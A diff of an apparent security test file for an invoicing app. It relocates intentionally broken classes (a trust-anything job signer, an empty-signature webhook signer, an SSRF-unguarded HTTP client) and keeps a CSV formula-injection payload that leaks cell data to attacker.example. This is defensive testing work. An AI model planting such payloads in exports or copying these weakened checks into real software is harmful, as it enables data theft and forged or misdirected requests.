@@ -12,11 +12,11 @@ import { Clock } from '@benteng/common';
 import { AppConfig, loadConfig } from '@benteng/config';
 import { TenantDatabase } from '@benteng/database';
 import { CsvFormulaGuard, DownloadLinks } from '@benteng/exports';
-import { JOBS_QUEUE, JobQueue, JobSigner, parseEnvelope, TenantJob, type SignedEnvelope, type JobRun, type TenantJobEnvelope, type TenantJobHandler } from '@benteng/jobs';
+import { JOBS_QUEUE, JobQueue, JobSigner, TenantJob, type SignedEnvelope, type JobRun, type TenantJobEnvelope, type TenantJobHandler } from '@benteng/jobs';
 import { PaymentWebhookVerifier } from '@benteng/payments';
-import { EgressError, SafeHttpClient, type EgressRequestOptions, type EgressResponse } from '@benteng/security';
+import { SafeHttpClient } from '@benteng/security';
 import type { Scope } from '@benteng/tenancy';
-import { mintWebhookSecret, WebhookDispatcher, WebhookSecretBox, WebhookSigner, type SignedHeaders } from '@benteng/webhooks';
+import { mintWebhookSecret, WebhookDispatcher, WebhookSecretBox, WebhookSigner } from '@benteng/webhooks';
 import { WORKER_LOG_DESTINATION } from '../../../apps/worker/src/worker-logging.js';
 import { WorkerModule } from '../../../apps/worker/src/worker.module.js';
 import { buildApi, LogCapture, type TestApi } from '../../support/api.js';
@@ -28,7 +28,7 @@ import { createTenant, insertInvoice, type TestTenant } from '../../support/fact
 import { createPaymentAccount, INBOUND_PAYMENTS_PATH, newWebhookSecret, payableInvoice, SimulatedPaymentProvider } from '../../support/payment-provider.js';
 import { PublicClient, setPasswords, testPassword } from '../../support/public-api.js';
 import { obliterateQueues, uniqueQueuePrefix } from '../../support/worker.js';
-import { IDENTITY_CSV_GUARD, TrustingPaymentVerifier, UncheckedDownloadLinks } from '../../../apps/lab/src/removals.js';
+import { IDENTITY_CSV_GUARD, ShapeOnlyJobSigner, TrustingPaymentVerifier, UncheckedDownloadLinks, UnguardedHttpClient, UnsignedWebhookSigner } from '../../../apps/lab/src/removals.js';
 import { exchange, scenario, type KillSwitchScenario, type Target } from '../support/kill-switch.js';
 
 /*
@@ -277,13 +277,6 @@ export class InvoiceReadingJob implements TenantJobHandler {
   }
 }
 
-/** JobSigner whose verify only checks the envelope's shape: the signature is believed as it is. */
-class ShapeOnlyJobSigner extends JobSigner {
-  override verify(signed: unknown) {
-    return parseEnvelope((signed as { envelope?: unknown } | null)?.envelope);
-  }
-}
-
 // --- EXPORT-LINK ------------------------------------------------------------------------------------
 
 /** DownloadLinks with every check but one: the session that minted a link is never asked after (the state before issue 14). */
@@ -315,32 +308,13 @@ export const FORMULA_PAYLOAD = '=HYPERLINK("https://attacker.example/?leak="&D2,
 
 // --- WEBHOOK-SIGNING --------------------------------------------------------------------------------
 
-/** A signer that signs nothing: the headers keep their names, the signature is empty. */
-class UnsignedWebhookSigner extends WebhookSigner {
-  override sign(messageId: string, at: Date): SignedHeaders {
-    return { 'webhook-id': messageId, 'webhook-timestamp': String(Math.floor(at.getTime() / 1000)), 'webhook-signature': '' };
-  }
-}
+// UnsignedWebhookSigner: apps/lab/src/removals.ts.
 
 // --- WEBHOOK-INBOUND --------------------------------------------------------------------------------
 
 // --- SSRF-EGRESS ------------------------------------------------------------------------------------
 
-/** An HTTP client with no destination checks at all: what a webhook sender without SafeHttpClient does. */
-class UnguardedHttpClient extends SafeHttpClient {
-  override assertDeliverableUrl(): void {}
-
-  override async post(url: string, body: string, headers: Record<string, string>, options: EgressRequestOptions = {}): Promise<EgressResponse> {
-    const started = performance.now();
-    try {
-      const res = await fetch(url, { method: 'POST', body, headers, redirect: 'follow', signal: AbortSignal.timeout(options.timeoutMs ?? 5_000) });
-      const text = await res.text();
-      return { status: res.status, headers: Object.fromEntries(res.headers), body: text.slice(0, options.maxBytes ?? 1024), truncated: false, latencyMs: Math.round(performance.now() - started) };
-    } catch {
-      throw new EgressError('connect_failed', 'The connection failed.');
-    }
-  }
-}
+// UnguardedHttpClient: apps/lab/src/removals.ts.
 
 // --- Scenarios --------------------------------------------------------------------------------------
 
